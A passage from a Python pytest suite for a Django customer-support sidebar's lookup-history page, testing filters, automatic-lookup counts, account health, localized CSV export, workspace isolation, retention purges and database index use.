    by_account = re.search(r'aria-labelledby="by-account-heading">.*?</section>', body, re.S)
    assert f'href="{HISTORY}?account=removed%3AOld%20Shop"' in by_account.group(0)
    # A row narrows the filters shown to itself; the others stay.
    narrowed = leo_client.get(HISTORY, {"outcome": "found", "agent": "bob"}).content.decode()
    assert f'href="{HISTORY}?outcome=found&amp;agent=a-2"' in narrowed


def test_automatic_lookups_are_counted_apart_unless_included(leo_client, workspace):
    record(workspace, reference="ASKED", latency_ms=100)
    record(workspace, reference="NOT-FOUND", outcome="not_found", latency_ms=100)
    record(
        workspace,
        reference="jane@example.com",
        action="customer_orders",
        automatic=True,
        latency_ms=900,
    )
    record(workspace, reference="1001", automatic=True, outcome="timeout", latency_ms=900)
    response = leo_client.get(HISTORY)
    summary, body = response.context["summary"], response.content.decode()
    assert (summary.lookups, summary.found, summary.median_ms) == (2, 1, 100)
    assert (summary.automatic_lookups, summary.automatic_found) == (2, 1)
    assert sorted(listed(response)) == ["ASKED", "NOT-FOUND"]
    apart = re.search(
        r'<p class="automatic-apart muted" data-testid="automatic-apart">(.*?)</p>', body, re.S
    ).group(1)
    assert "Not counted above: 2 automatic lookups (50% found)" in apart
    assert f'href="{HISTORY}?automatic=on"' in apart
    assert [group.lookups for group in response.context["by_agent"]] == [2]

    included = leo_client.get(HISTORY, {"automatic": "on"})
    summary = included.context["summary"]
    assert (summary.lookups, summary.automatic_lookups, summary.median_ms) == (4, 0, 100)
    assert len(listed(included)) == 4
    assert included.content.decode().count('<span class="badge badge-grey">automatic</span>') == 2
    assert 'id="id_automatic" checked' in included.content.decode()


def test_conversations_link_out_to_armincx_through_the_workspace_s_pattern(leo_client, workspace):
    record(workspace, reference="1001", conversation="c 42/7")
    body = leo_client.get(HISTORY).content.decode()
    assert f'href="{HISTORY}?conversation=c%2042/7"' in body  # its lookups here, as before
    assert "Open in ArminCX" not in body  # no pattern set: no link out

    workspace.conversation_url_pattern = "https://app.armincx.com/conversations/{conversation}"
    workspace.save()
    body = leo_client.get(HISTORY).content.decode()
    link = (
        '<a class="external" href="https://app.armincx.com/conversations/c%2042%2F7" '
        'target="_blank" rel="noopener noreferrer">Open in ArminCX'
    )
    assert link in body


def test_a_lead_sees_each_account_s_health(leo_client, workspace, acme_accounts, settings):
    from django.utils import timezone as tz

    from karla_sidebar.breaker import breaker_failure
    from karla_sidebar.models import ShipmentSync

    shop, outlet = acme_accounts
    GoKarlaAccount.objects.filter(pk=shop.pk).update(
        last_verified_at=tz.now() - dt.timedelta(hours=2),
        webhook_status="active",
        webhook_last_delivery_at=tz.now() - dt.timedelta(minutes=5),
    )
    GoKarlaAccount.objects.filter(pk=outlet.pk).update(
        status="failing", last_error="GoKarla rejected the username or API token."
    )
    ShipmentSync.objects.create(
        workspace=workspace, account=shop, last_finished_at=tz.now() - dt.timedelta(minutes=3)
    )
    ShipmentSync.objects.create(
        workspace=workspace, account=outlet, last_error="GoKarla did not answer in time."
    )
    for _ in range(settings.BREAKER_FAILURES):
        breaker_failure(account_id=outlet.pk)

    body = leo_client.get(HISTORY).content.decode()
    panel = re.search(r'<section class="card account-health".*?</section>', body, re.S).group(0)
    rows = dict(re.findall(r'<th scope="row">(Demo \w+).*?</th>(.*?)</tr>', panel, re.S))
    shop_row, outlet_row = rows["Demo Shop"], rows["Demo Outlet"]
    for text in (
        "Connected",
        "2 hours ago",
        "Flowing",
        "active",
        "Last delivery",
        "5 minutes ago",
        "3 minutes ago",
    ):
        assert text in shop_row, text
    for text in (
        "Needs attention",
        "rejected the username",
        "Paused",
        "not registered",
        "Last run failed",
        "did not answer in time",
    ):
        assert text in outlet_row, text
    # Only the whole page reads it: filtering (HTMX) swaps the results, not the panel.
    assert "account-health" not in leo_client.get(HISTORY, **HTMX).content.decode()


def test_the_export_is_in_the_viewer_s_time_zone_like_the_page(leo_client, workspace):
    """The CSV is written after the view returned: its rows, bounds and times must still be
    those of the viewer's zone (the karla_tz cookie), exactly as on the page."""
    tokyo = ZoneInfo("Asia/Tokyo")
    today = dt.datetime.now(tokyo).date()
    start = dt.datetime.combine(today, dt.time.min, tokyo)
    record(
        workspace, reference="EARLY", at=start + dt.timedelta(minutes=30)
    )  # the previous UTC day
    record(workspace, reference="BEFORE", at=start - dt.timedelta(minutes=30))
    leo_client.cookies["karla_tz"] = "Asia/Tokyo"
    params = {"date_from": today.isoformat(), "date_to": today.isoformat()}
    page = leo_client.get(HISTORY, params)
    assert listed(page) == ["EARLY"]
    assert (
        '<th scope="col">When <span class="muted small">(Asia/Tokyo)</span></th>'
        in page.content.decode()
    )
    shown = re.search(r'<time datetime="([^"]+)">', page.content.decode()).group(1)
    rows = export_rows(leo_client, params)
    assert [row["Reference"] for row in rows] == ["EARLY"]
    assert rows[0]["Time"] == (start + dt.timedelta(minutes=30)).isoformat(timespec="seconds")
    assert rows[0]["Time"].endswith("+09:00") and shown.startswith(rows[0]["Time"][:16])


def test_the_export_s_header_is_in_the_viewer_s_language(leo_client, workspace):
    from django.conf import settings as django_settings

    record(workspace, cached=True)
    leo_client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "de"
    response = leo_client.get(EXPORT, {"period": "all"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[:3] == ["Zeit", "Quelle", "Agent-ID"] and header[-1] == "Automatisch"
    assert row[header.index("Zwischengespeichert")] == "ja"
    assert row[header.index("Automatisch")] == "nein"
    assert row[header.index("Ergebnis")] == "found"  # codes stay codes, for spreadsheets


def test_the_summaries_read_in_the_viewer_s_language(client, leo_client, workspace, shop_account):
    """Stored once, in English; a German lead reads German statuses (and counts)."""
    from django.conf import settings as django_settings

    headers = sidebar_headers(client, workspace)
    client.post("/sidebar/order/", {"reference": "1001"}, **headers)
    client.post("/sidebar/shipment/", {"reference": "00340434161094042557"}, **headers)
    record(workspace, action="customer_orders", summary="2 orders; first #1001 · Fulfilled")
    record(workspace, summary="#1 · not a status of ours")

    def summaries(language: str) -> list[str]:
        leo_client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = language
        page = leo_client.get(HISTORY, {"period": "all"}).content.decode()
        return re.findall(r'<br><span class="muted small">([^<]*·[^<]*)</span>', page)

    assert summaries("de") == [
        "#1 · not a status of ours",
        "2 Bestellungen; erste #1001 · Versandt",
        "DHL · Unterwegs",
        "#1001 · Versandt",
    ]
    assert summaries("en") == [
        "#1 · not a status of ours",
        "2 orders; first #1001 · Fulfilled",
        "DHL · In transit",
        "#1001 · Fulfilled",
    ]


# Isolation


def test_another_workspace_sees_none_of_acmes_history(
    gwen_client, workspace, other_workspace, acme_accounts
):
    shop = acme_accounts[0]
    record(workspace, reference="ACME-1", account=shop, account_label="Demo Shop")
    record(workspace, reference="ACME-2", account_label="Old Acme Shop", conversation="c-acme")
    record(other_workspace, reference="GLOBEX-1")

    response = gwen_client.get(HISTORY)
    assert listed(response) == ["GLOBEX-1"]
    assert response.context["summary"].lookups == 1
    assert response.context["chart"].total == 1
    assert "Old Acme Shop" not in response.content.decode()
    assert [row["Reference"] for row in export_rows(gwen_client)] == ["GLOBEX-1"]
    assert listed(gwen_client.get(HISTORY, {"conversation": "c-acme"})) == []
    assert export_rows(gwen_client, {"reference": "ACME"}) == []

    for account in (shop.pk, "removed:Old Acme Shop"):
        tampered = gwen_client.get(HISTORY, {"account": account})
        assert tampered.status_code == 422
        body = tampered.content.decode()
        assert "Select a valid choice." in body and "ACME" not in body
        assert "summary" not in tampered.context
        refused = gwen_client.get(EXPORT, {"account": account})
        assert refused.status_code == 400 and not refused.streaming


# Retention


def test_purge_deletes_exactly_what_is_older_than_the_retention(
    workspace, other_workspace, settings
):
    settings.HISTORY_RETENTION_DAYS = 30
    now = timezone.now()
    record(workspace, reference="OLD", at=now - dt.timedelta(days=31))
    record(other_workspace, reference="OLD-GLOBEX", at=now - dt.timedelta(days=31))
    record(workspace, reference="KEPT", at=now - dt.timedelta(days=29))
    record(workspace, reference="NEW")

    out = io.StringIO()
    call_command("purge_history", "--dry-run", stdout=out)
    assert out.getvalue().startswith("Would delete 2 lookup records older than 30 days")
    assert LookupRecord.objects.count() == 4

    out = io.StringIO()
    call_command("purge_history", stdout=out)
    assert out.getvalue().startswith("Deleted 2 lookup records older than 30 days")
    assert sorted(LookupRecord.objects.values_list("reference", flat=True)) == ["KEPT", "NEW"]

    settings.HISTORY_RETENTION_DAYS = 1
    out = io.StringIO()
    call_command("purge_history", stdout=out)
    assert out.getvalue().startswith("Deleted 1 lookup record older than 1 day (before ")


def test_purge_deletes_in_batches(workspace):
    for number in range(5):
        record(workspace, reference=f"R{number}", at=timezone.now() - dt.timedelta(days=400))
    record(workspace, reference="NEW")
    cutoff = timezone.now() - dt.timedelta(days=90)
    assert lookup_record_purge(older_than=cutoff, dry_run=True) == 5
    assert lookup_record_purge(older_than=cutoff, batch_size=2) == 5
    assert list(LookupRecord.objects.values_list("reference", flat=True)) == ["NEW"]


# The indexes the page's queries stand on


def _plan(sql: str) -> str:
    with connection.cursor() as cursor:
        cursor.execute("EXPLAIN QUERY PLAN " + sql)
        return " ".join(str(row[-1]) for row in cursor.fetchall())


@pytest.mark.skipif("connection.vendor != 'sqlite'", reason="SQLite's own index choice")
def test_sqlite_walks_the_latency_index_for_the_unfiltered_summary_only(workspace):
    """Unfiltered, the summary reads its rows in (latency, outcome) order from the partial
    index, with no sort; filtered, SQLite never walks that index (it would read the whole
    table in latency order to spare a sort of the few rows that match)."""
    record(workspace)
    plans = {}
    for name, filters in {"unfiltered": {}, "reference": {"reference": "42"}}.items():
        with CaptureQueriesContext(connection) as queries:
            lookup_summary(workspace=workspace, filters=filters)
        (query,) = queries.captured_queries
        plans[name] = _plan(query["sql"])
    assert "COVERING INDEX lookup_by_latency" in plans["unfiltered"]
    assert "TEMP B-TREE" not in plans["unfiltered"]
    assert "lookup_by_latency" not in plans["reference"]


@pytest.mark.skipif("connection.vendor != 'sqlite'", reason="SQLite's own index choice")
def test_sqlite_groups_by_agent_through_the_filter_s_index_not_the_agent_s(workspace):
    """Grouped by an agent column first, SQLite walked the agent index through the whole
    workspace for its order even when one conversation was asked for: the tables group by
    the rounded latency first, and read the few rows of the conversation's index."""
    from karla_sidebar.history.selectors import lookups_by_account, lookups_by_agent

    record(workspace)
    for selector in (lookups_by_agent, lookups_by_account):
        with CaptureQueriesContext(connection) as queries:
            selector(workspace=workspace, filters={"conversation": "c-42"})
        (query,) = queries.captured_queries
        plan = _plan(query["sql"])
        assert "lookup_by_conv" in plan, plan


@pytest.mark.skipif("connection.vendor != 'postgresql'", reason="PostgreSQL's trigram indexes")
def test_postgresql_has_trigram_indexes_for_the_contains_filters(db):
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = %s",
            [LookupRecord._meta.db_table],
        )
        indexes = dict(cursor.fetchall())
    for name, column in (
        ("lookup_reference_trgm", "reference"),
        ("lookup_actor_name_trgm", "actor_name"),
    ):
        assert "gin_trgm_ops" in indexes[name] and f"upper(({column})::text)" in indexes[name]
    assert "lookup_by_latency" not in indexes  # SQLite only: PostgreSQL groups with a hash


def test_the_previous_release_still_records_lookups_during_a_rollout(workspace):
    """Until every app server runs this release, the old ones write history rows without the
    ``stale``, ``resolved_by`` and ``automatic`` columns: the database fills them in
    (docs/deploy.md: migrate first, then restart)."""
    from django.db import connection

    newer = {"id", "stale", "resolved_by", "automatic"}
    fields = [f for f in LookupRecord._meta.concrete_fields if f.name not in newer]
    row = LookupRecord(
        workspace=workspace, source="sidebar", action="order", reference="OLD", outcome="found"
    )
    row.created_at = timezone.now()
    columns = ", ".join(connection.ops.quote_name(f.column) for f in fields)
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {LookupRecord._meta.db_table} ({columns}) "  # noqa: S608
            f"VALUES ({', '.join(['%s'] * len(fields))})",
            [f.get_db_prep_save(getattr(row, f.attname), connection) for f in fields],
        )
    old = LookupRecord.objects.get(reference="OLD")
    assert (old.stale, old.resolved_by, old.automatic) == (False, "", False)
